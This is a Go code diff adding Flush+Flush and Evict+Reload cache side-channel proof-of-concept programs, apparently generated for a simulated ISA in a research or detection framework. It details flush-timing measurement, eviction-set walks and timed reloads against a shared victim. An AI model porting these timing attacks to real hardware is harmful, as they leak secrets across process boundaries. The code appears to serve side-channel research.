@@ -1,0 +1,140 @@
+package attacks
+
+import "repro/internal/isa"
+
+// FlushFlushIAIK implements Flush+Flush: instead of reloading, it times
+// the CLFLUSH instruction itself — flushing a cached line takes longer
+// than flushing an uncached one, so the flush is simultaneously the
+// measurement and the reset of the monitored line.
+func FlushFlushIAIK(p Params) PoC {
+	p = p.withDefaults()
+	// Flush-latency gap (cached 130 vs uncached 90 cycles by default):
+	// a dedicated threshold between the two.
+	ffThreshold := int64(110)
+
+	b := isa.NewBuilder("FF-IAIK", AttackerCodeBase)
+	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
+	scratch := b.Bytes("scratch", 256, false)
+	hits := b.Bytes("hits", uint64(p.Lines)*8, false)
+
+	emitSetupNoise(b, scratch, 12, "setup", 1)
+
+	// Initial flush pass so every monitored line starts uncached.
+	b.Mov(isa.R(isa.R2), isa.Imm(0)).
+		Label("prefl").
+		Mov(isa.R(isa.R1), isa.R(isa.R2)).
+		Shl(isa.R(isa.R1), isa.Imm(6)).
+		Add(isa.R(isa.R1), isa.Imm(int64(SharedBase))).
+		Clflush(isa.Mem(isa.R1, 0)).
+		Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("prefl")
+
+	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+	b.Mov(isa.R(isa.R2), isa.Imm(0))
+	b.Label("lines")
+	emitLineAddr(b, isa.R1, isa.R2, SharedBase)
+
+	emitBusyWait(b, "wait", isa.R3, p.Wait)
+
+	// Timed flush: the whole measurement is one flush.
+	b.BeginAttack().
+		Label("tflush").
+		Rdtscp(isa.R4).
+		Clflush(isa.Mem(isa.R1, 0)).
+		Rdtscp(isa.R5).
+		Sub(isa.R(isa.R5), isa.R(isa.R4)).
+		Cmp(isa.R(isa.R5), isa.Imm(ffThreshold)).
+		Jb("quiet").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
+		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R8)).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
+		EndAttack().
+		Label("quiet")
+
+	b.Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("lines")
+	b.Dec(isa.R(isa.R7)).
+		Jne("round")
+
+	emitResultScan(b, hits, p.Lines, "post", 0)
+	b.Hlt()
+	return PoC{Name: "FF-IAIK", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
+}
+
+// evictionSetBase is where the Evict+Reload / Prime+Probe PoCs place
+// their private eviction buffers. It is congruent to SharedBase modulo
+// the L1 and LLC set spans, so eviction-set entry w for shared line i is
+// evictionSetBase + i*LineSize + w*EvictionStride.
+const evictionSetBase uint64 = 0x5000_0000
+
+// EvictReloadIAIK implements Evict+Reload: like Flush+Reload but without
+// CLFLUSH — the monitored shared line is displaced from the whole
+// hierarchy by walking an eviction set of the attacker's own congruent
+// addresses, then reloaded with timing.
+func EvictReloadIAIK(p Params) PoC {
+	p = p.withDefaults()
+	b := isa.NewBuilder("ER-IAIK", AttackerCodeBase)
+	b.DataAt("shared", SharedBase, uint64(p.Lines)*LineSize, nil, true)
+	evBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
+	b.DataAt("evbuf", evictionSetBase, evBytes, nil, false)
+	scratch := b.Bytes("scratch", 256, false)
+	hits := b.Bytes("hits", uint64(p.Lines)*8, false)
+
+	emitSetupNoise(b, scratch, 16, "setup", 2)
+
+	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+	b.Mov(isa.R(isa.R2), isa.Imm(0))
+	b.Label("lines")
+	emitLineAddr(b, isa.R1, isa.R2, SharedBase)
+
+	// Evict phase: walk LLCWays+1 congruent addresses of our own buffer.
+	b.BeginAttack().
+		Label("evict").
+		Mov(isa.R(isa.R3), isa.Imm(0)).
+		Label("evloop").
+		Mov(isa.R(isa.R4), isa.R(isa.R3)).
+		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
+		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R5), isa.R(isa.R2)).
+		Shl(isa.R(isa.R5), isa.Imm(6)).
+		Add(isa.R(isa.R4), isa.R(isa.R5)).
+		Add(isa.R(isa.R4), isa.Imm(int64(evictionSetBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
+		Inc(isa.R(isa.R3)).
+		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays+1))).
+		Jl("evloop").
+		EndAttack()
+
+	emitBusyWait(b, "wait", isa.R3, p.Wait)
+
+	// Timed reload.
+	b.BeginAttack().
+		Label("reload").
+		Rdtscp(isa.R4).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
+		Rdtscp(isa.R5).
+		Sub(isa.R(isa.R5), isa.R(isa.R4)).
+		Cmp(isa.R(isa.R5), isa.Imm(p.Threshold)).
+		Jae("miss").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hits))).
+		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R8)).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
+		EndAttack().
+		Label("miss")
+
+	b.Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("lines")
+	b.Dec(isa.R(isa.R7)).
+		Jne("round")
+
+	emitResultScan(b, hits, p.Lines, "post", 0)
+	b.Hlt()
+	return PoC{Name: "ER-IAIK", Family: FamilyFR, Program: b.MustBuild(), Victim: SharedVictim(p)}
+}
